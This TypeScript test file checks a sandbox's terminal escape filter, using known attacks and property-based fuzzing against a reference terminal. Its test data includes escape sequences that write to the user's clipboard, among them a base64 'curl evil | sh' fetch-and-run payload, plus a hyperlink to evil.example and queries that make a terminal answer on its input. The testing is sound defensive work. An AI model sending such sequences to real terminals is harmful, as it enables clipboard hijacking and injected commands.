/**
 * What a sandbox's TTY may send to the terminal of a person attached to it
 * (sandbox/terminal-escapes.ts): known attacks, then properties checked
 * against a reference terminal (xterm.js headless) on generated input.
 */
import { Duplex, PassThrough } from 'node:stream';
import fc from 'fast-check';
import { bridgeShell } from '../../sandbox/attach';
import { TerminalEscapeFilter } from '../../sandbox/terminal-escapes';
import { observe, type Observed } from '../support/reference-terminal';

const ESC = '\x1b';
const bytesOf = (c: string | Buffer) => (Buffer.isBuffer(c) ? c : Buffer.from(c, 'utf8'));
const filtered = (...chunks: (string | Buffer)[]) => {
  const filter = new TerminalEscapeFilter();
  return chunks.map((c) => filter.push(bytesOf(c)));
};
const through = (...chunks: (string | Buffer)[]) => Buffer.concat(filtered(...chunks)).toString('utf8');

test('colours, cursor movement, screen modes and text pass as they are', () => {
  const screen =
    `${ESC}[1;31mred${ESC}[0m ${ESC}[2J${ESC}[H${ESC}[?1049h${ESC}[10;5Hé ✓ ${ESC}(B${ESC}[?25l\r\n` +
    `${ESC}[38:2::255:0:0mx${ESC}[K${ESC}[3 q${ESC}7${ESC}8${ESC}M\b\t`;
  expect(through(screen)).toBe(screen);
});

test.each([
  ['OSC 52: the clipboard', `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`],
  ['OSC 52 ended by ST', `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${ESC}\\`],
  ['OSC 0: the title', `${ESC}]0;approved${ESC}\\`],
  ['OSC 8: a hyperlink', `${ESC}]8;;https://evil.example/${ESC}\\`],
  ['DCS: device control', `${ESC}P+q544e${ESC}\\`],
  ['APC', `${ESC}_payload${ESC}\\`],
  ['device status report (answered on input)', `${ESC}[6n`],
  ['device attributes (answered on input)', `${ESC}[c`],
  ['window title report (answered on input)', `${ESC}[21t`],
  ['a mode request', `${ESC}[?2004$p`],
  ['a C1 OSC (U+009D)', '\u009d52;c;eA==\x07'],
  ['a C1 CSI (U+009B)', '\u009b6n'],
  // Round 4: a second ESC, an unfinished CSI or a CAN restarts the sequence, the OSC after it is whole.
  ['ESC ESC ] 52', `${ESC}${ESC}]52;c;eA==\x07`],
  ['ESC [ ESC ] 52', `${ESC}[${ESC}]52;c;eA==\x07`],
  ['ESC [ CAN ESC ] 52', `${ESC}[\x18${ESC}]52;c;eA==\x07`],
  ['ESC ESC [ 6n', `${ESC}${ESC}[6n`],
  ['a C0 control inside the escape (ESC CR [ 6n)', `${ESC}\r[6n`],
  ['mouse reporting', `${ESC}[?1000h`],
  ['focus reporting', `${ESC}[?1004h`],
  ['a secondary device attributes request', `${ESC}[>c`],
  ['a colour query (OSC 11)', `${ESC}]11;?\x07`],
])('%s is dropped, the text around it kept', (_what, escape) => {
  const out = through(`before ${escape}after`);
  expect(out.replace(/[\r\n]/g, '')).toBe('before after');
});

test('an escape split across chunks is judged whole', () => {
  expect(through('a', ESC, ']52;c;', 'eA==', '\x07', 'b', `${ESC}[`, '31m', 'c')).toBe(`ab${ESC}[31mc`);
  expect(through(Buffer.from([0x78, 0xc2]), Buffer.from([0x9d, 0x30, 0x3b, 0x74, 0x07, 0x79]))).toBe('xy');
  expect(through(Buffer.from([0xc2]), Buffer.from([0xa9]))).toBe('©');
  expect(through(Buffer.from([0xc2]), Buffer.from([0x9b, 0x33, 0x31, 0x6d]))).toBe(`${ESC}[31m`);
  expect(through(ESC, ESC, '[6', 'n', 'z')).toBe('z');
});

test('a CSI with parameters past the bound is dropped whole, up to its final byte', () => {
  expect(through(`${ESC}[${'1;'.repeat(100)}`, '6n', 'visible')).toBe('visible');
  expect(through(`${ESC}[123456H`, 'x')).toBe('x');
});

test('a mode sequence keeps only the modes on the allowlist', () => {
  expect(through(`${ESC}[?1049;1000;1006;25h`)).toBe(`${ESC}[?1049;25h`);
  expect(through(`${ESC}[?1000;1006h`)).toBe('');
});

test('invalid UTF-8 is dropped, valid text around it kept', () => {
  expect(through(Buffer.from([0x61, 0xff, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x62]))).toBe('ab');
});

// --- Properties against the reference terminal -------------------------------------------------

/** Pieces an attacker would combine: introducers, terminators, controls, parameters, text. */
const PIECES = [
  ESC,
  '\x18',
  '\x1a',
  '\x07',
  '\r',
  '\n',
  '\x7f',
  '[',
  ']',
  'P',
  'X',
  '^',
  '_',
  '\\',
  '(',
  ')',
  ' ',
  '$',
  '!',
  '"',
  '?',
  '>',
  '<',
  '=',
  ';',
  ':',
  '0',
  '1',
  '2',
  '5',
  '6',
  '52',
  '1049',
  '2004',
  'c',
  'n',
  't',
  'x',
  'm',
  'H',
  'q',
  'p',
  'h',
  'l',
  'u',
  'a',
  'é',
  '✓',
  '\u0085',
  '\u0090',
  '\u0098',
  '\u009b',
  '\u009c',
  '\u009d',
  '\u009e',
  '\u009f',
  `${ESC}]52;c;eA==`,
  `${ESC}[6n`,
  `${ESC}[c`,
  `${ESC}P$qm`,
  `${ESC}[?2004$p`,
  `${ESC}]11;?`,
  `${ESC}[>c`,
  `${ESC}[18t`,
  `${ESC}[?1000h`,
  `${ESC}[31m`,
  `${ESC}[2J`,
  'hello ',
  'world',
];
const text = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 4 })), { maxLength: 40 });
const interestingByte = fc.oneof(
  fc.constantFrom(0x1b, 0x18, 0x1a, 0x07, 0x5b, 0x5d, 0x50, 0x5f, 0x5c, 0x3b, 0x36, 0x6e, 0x63, 0xc2, 0x9b, 0x9d),
  fc.integer({ min: 0, max: 255 }),
);
const bytes = fc
  .uint8Array({ maxLength: 200 })
  .chain((b) =>
    fc.array(interestingByte, { maxLength: 200 }).map((i) => Buffer.concat([Buffer.from(b), Buffer.from(i)])),
  );
/** Cuts a byte string into chunks at the given points (mid-character and mid-sequence too). */
const cut = (data: Buffer, at: number[]) => {
  const points = [...new Set(at.map((n) => n % (data.length + 1)))].sort((a, b) => a - b);
  const edges = [0, ...points, data.length];
  return edges.slice(1).map((end, i) => data.subarray(edges[i], end));
};
const cuts = fc.array(fc.nat(), { maxLength: 8 });
const RUNS = { seed: 44, numRuns: 200 };

/** What only reaches beyond the screen: a reply on the terminal's input, an OSC, a DCS, a title. */
function expectNothingBeyondTheScreen(seen: Observed): void {
  expect(seen.replies).toEqual([]);
  expect(seen.oscs).toBe(0);
  expect(seen.dcs).toBe(0);
  expect(seen.titles).toEqual([]);
}

/** Every sequence the reference terminal dispatched from the filter's output is one the allowlist names. */
function expectOnlyAllowed(seen: Observed): void {
  for (const csi of seen.csi) expect(csi).toMatch(/^(\?|[ !])?[@A-Za-z`]$/);
  for (const esc of seen.esc)
    expect(['7', '8', 'D', 'E', 'H', 'M', '=', '>', '(B', '(0', '(A', ')B', ')0', ')A']).toContain(esc);
  for (const csi of seen.csi) expect(['n', 'c', 't', 'x', 'p', '?n', '?c', '?u', '$p', '?$p']).not.toContain(csi);
}

test('random bytes through the filter make the reference terminal answer nothing and run nothing beyond the screen', async () => {
  await fc.assert(
    fc.asyncProperty(bytes, cuts, async (data, at) => {
      const seen = await observe(filtered(...cut(data, at)));
      expectNothingBeyondTheScreen(seen);
      expectOnlyAllowed(seen);
      // The output holds no C1 control, no DEL and no control outside the allowed few.
      const out = Buffer.concat(filtered(data)).toString('utf8');
      expect(out).not.toMatch(/[\x00-\x06\x10-\x1a\x1c-\x1f\x7f-\x9f]/);
    }),
    RUNS,
  );
});

test('the text the reference terminal prints is the same with and without the filter', async () => {
  await fc.assert(
    fc.asyncProperty(text, cuts, async (pieces, at) => {
      const data = Buffer.from(pieces.join(''), 'utf8');
      const raw = await observe([data]);
      const seen = await observe(filtered(...cut(data, at)));
      expect(String.fromCodePoint(...seen.prints)).toBe(String.fromCodePoint(...raw.prints));
      expectNothingBeyondTheScreen(seen);
      expectOnlyAllowed(seen);
    }),
    RUNS,
  );
});

test('chunking never changes the output', () => {
  fc.assert(
    fc.property(bytes, cuts, (data, at) => {
      expect(Buffer.concat(filtered(...cut(data, at)))).toEqual(Buffer.concat(filtered(data)));
    }),
    { ...RUNS, numRuns: 1000 },
  );
});

test("drydock serve's bridge sends the shell's output through the filter too (any client is protected)", async () => {
  const sent: Buffer[] = [];
  const socket = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      sent.push(chunk);
      done();
    },
  });
  const tty = new PassThrough();
  const bridged = bridgeShell(socket, { stream: tty, resize: async () => {}, exitCode: async () => 0 });
  tty.write(`a${ESC}${ESC}]52;c;eA==\x07`);
  tty.end(`b${ESC}[6n`);
  await bridged;
  expect(Buffer.concat(sent).toString()).toBe('ab');
});

test('filtering twice is filtering once (serve filters, and the CLI again)', () => {
  fc.assert(
    fc.property(bytes, (data) => {
      const once = Buffer.concat(filtered(data));
      expect(Buffer.concat(filtered(once))).toEqual(once);
    }),
    { ...RUNS, numRuns: 1000 },
  );
});

test('the reference terminal answers the unfiltered attacks (the properties above can fail)', async () => {
  const raw = await observe([`${ESC}${ESC}[6n${ESC}[${ESC}]52;c;eA==\x07${ESC}]0;t\x07`].map(bytesOf));
  expect(raw.replies.length).toBeGreaterThan(0);
  expect(raw.oscs).toBe(2);
  expect(raw.titles).toEqual(['t']);
});
